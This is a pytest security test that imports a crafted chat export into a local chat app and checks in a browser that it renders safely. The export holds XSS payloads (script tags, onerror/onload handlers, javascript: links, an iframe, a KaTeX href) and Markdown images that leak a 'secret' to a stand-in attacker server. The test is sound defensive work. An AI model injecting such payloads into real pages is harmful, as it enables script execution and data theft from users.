"""XSS in an imported chat (issue 26's adversary pass), in Debian's Chromium: a JSON export whose chat name and
messages carry <script>, <img onerror>, an outside Markdown image, javascript: links and a KaTeX \\href is read
in with `python launch.py import`, then opened from the sidebar of the real app. Nothing of it runs (no flag
set, no dialog), the outside server gets no request (the page's CSP blocks the image), and the chat goes on.

The page's CSP names images only (img-src 'self' data: blob:): a script that reached the DOM would run, so this
is about the page showing chat text as text."""
from __future__ import annotations

import json
import re
import subprocess
import sys
import uuid

import pytest

from tests.attacker import attacker_site
from tests.support.app_process import ROOT, running_app
from tests.support.page import STATS_EN, open_sidebar, send

pytestmark = pytest.mark.timeout(600)

# What any payload does if it runs: sets the flag and opens a dialog.
RUN = "window.__xss_ran=1;alert(1)"
TITLE = f"<script>{RUN}</script><img src=x onerror=\"{RUN}\"> title-sentinel"


def payloads(outside: str) -> tuple[str, str]:
    """The user's message and the answer: every vector at once, each line with a sentinel to wait for."""
    question = "\n".join([
        "question-sentinel",
        f"<script>{RUN}</script>",
        f"<img src=x onerror=\"{RUN}\">",
        f"<svg/onload=\"{RUN}\">",
        f"![leak]({outside}/from-question.png?chat=secret)",
        f"[click me](javascript:void({RUN}))",
    ])
    answer = "\n\n".join([
        "answer-sentinel",
        f"<script>{RUN}</script>",
        f"<img src=x onerror=\"{RUN}\">",
        f"<iframe src=\"javascript:{RUN}\"></iframe>",
        f"<a href=\"javascript:{RUN}\">raw link</a>",
        f"![leak]({outside}/leak.png?chat=secret)",
        f"[markdown link](javascript:void({RUN}))",
        f"[spaced link]( JaVaScRiPt:void({RUN}))",
        "<javascript:alert(1)>",
        f"$\\href{{javascript:{RUN}}}{{katex link}}$",
        "answer-end-sentinel",
    ])
    return question, answer


def export_file(folder, thread_id: str, question: str, answer: str):
    """The chat as `launch.py export --format json` writes it (app/history/export.py), owned by the page's
    local user; its steps shaped as Chainlit stores them."""
    steps = []
    for n, (kind, name, text, meta) in enumerate([("user_message", "local", question, {}),
                                                  ("assistant_message", "ERNIE", answer, {"kind": "answer"})]):
        at = f"2026-12-01T10:00:0{n}.000000Z"
        steps.append({"id": str(uuid.uuid4()), "threadId": thread_id, "parentId": None, "createdAt": at,
                      "command": None, "modes": None, "start": at, "end": at, "output": text, "name": name,
                      "type": kind, "language": None, "streaming": False, "isError": False,
                      "waitForAnswer": False, "metadata": meta, "tags": None})
    path = folder / "hostile-chat.json"
    path.write_text(json.dumps({"format": "ernie-chat/chat-v1", "id": thread_id, "name": TITLE,
                                "created_at": "2026-12-01T10:00:00.000000Z", "user": "local", "tags": [],
                                "metadata": {}, "messages": [], "steps": steps, "elements": []},
                               ensure_ascii=False, indent=1))
    return path


# Before the page's own scripts: record what the CSP blocks (the flag itself is only ever set by a payload).
WATCH_JS = """window.__violations = [];
document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.blockedURI));"""


@pytest.fixture(scope="module")
def hostile_chat(tiny_model_dir, tmp_path_factory):
    data, exports = tmp_path_factory.mktemp("xss-data"), tmp_path_factory.mktemp("xss-export")
    thread_id = str(uuid.uuid4())
    with attacker_site() as site:
        question, answer = payloads(site.url)
        path = export_file(exports, thread_id, question, answer)
        imported = subprocess.run([sys.executable, "launch.py", "import", "--data-dir", str(data), str(path)],
                                  cwd=ROOT, capture_output=True, text=True, timeout=120)
        assert imported.returncode == 0 and "imported 1 of 1" in imported.stdout, imported
        with running_app(tiny_model_dir, tmp_path_factory.mktemp("xss-run"), "--data-dir", str(data),
                         "--max-tokens", "16") as app:
            yield {"app": app, "thread": thread_id, "site": site}


def test_an_imported_hostile_chat_runs_nothing_loads_nothing_from_outside_and_goes_on(browser, hostile_chat):
    app, thread, site = hostile_chat["app"], hostile_chat["thread"], hostile_chat["site"]
    context = browser.new_context(locale="en-US", viewport={"width": 1280, "height": 800})
    context.add_init_script(WATCH_JS)
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    try:
        page.goto(app.url + "/")
        page.wait_for_selector("#chat-input", timeout=30000)
        open_sidebar(page)
        row = page.locator(f"#thread-{thread}")
        row.get_by_text("title-sentinel").wait_for(timeout=15000)
        assert "<script>" in row.inner_text() and "onerror" in row.inner_text()  # the name, shown as text
        row.get_by_text("title-sentinel").click()
        page.wait_for_function(f"() => location.pathname.endsWith('/thread/{thread}')", timeout=10000)
        steps = page.locator("[data-step-type]")
        # The question is shown as typed: every line of it as text, tags included.
        question = page.locator('[data-step-type="user_message"]').filter(has_text="question-sentinel")
        question.wait_for(timeout=30000)
        assert f"<script>{RUN}</script>" in question.inner_text()
        assert f"<img src=x onerror=\"{RUN}\">" in question.inner_text()
        answer = page.locator('[data-step-type="assistant_message"]').filter(has_text="answer-end-sentinel")
        answer.wait_for(timeout=30000)
        shown = answer.inner_text()  # the answer's raw HTML is shown as text, never made into elements
        assert f"<script>{RUN}</script>" in shown and f"<a href=\"javascript:{RUN}\">raw link</a>" in shown, shown
        # The outside image was tried and refused by the page's CSP: once that is recorded, a request that
        # got through would have reached the other server already.
        page.wait_for_function("() => window.__violations.some(u => u.includes('/leak.png'))", timeout=15000)
        violations = page.evaluate("window.__violations")
        assert site.hits == [], site.hits
        assert page.evaluate("window.__xss_ran") is None
        assert dialogs == []
        # Nothing of the payloads became live markup: no script of theirs, no inline handler, no frame, and
        # no link that runs code.
        live = steps.evaluate_all("""steps => steps.flatMap(s => [...s.querySelectorAll('*')]).flatMap(e => {
            const found = [];
            if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED'].includes(e.tagName)) found.push(e.tagName);
            for (const a of e.attributes) if (/^on/i.test(a.name)) found.push(e.tagName + ' ' + a.name);
            const href = e.getAttribute('href');
            if (href !== null && /^\\s*javascript:/i.test(href)) found.push('href ' + href);
            return found; })""")
        assert live == [], live
        links = answer.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
        print(f"\nimported XSS: violations {violations}; links in the answer {links}; outside hits {site.hits}")

        # The page still works: the chat goes on with a new answer.
        send(page, "still here?")
        page.get_by_text("still here?").wait_for(timeout=15000)
        page.wait_for_function("re => new RegExp(re).test(document.body.innerText)", arg=STATS_EN.pattern,
                               timeout=60000)
        assert page.evaluate("window.__xss_ran") is None and dialogs == [] and site.hits == []
        assert re.search(STATS_EN.pattern, answer_texts(page)), "no new answer"
    finally:
        context.close()


def answer_texts(page) -> str:
    return "\n".join(page.locator('[data-step-type="assistant_message"]').all_inner_texts())
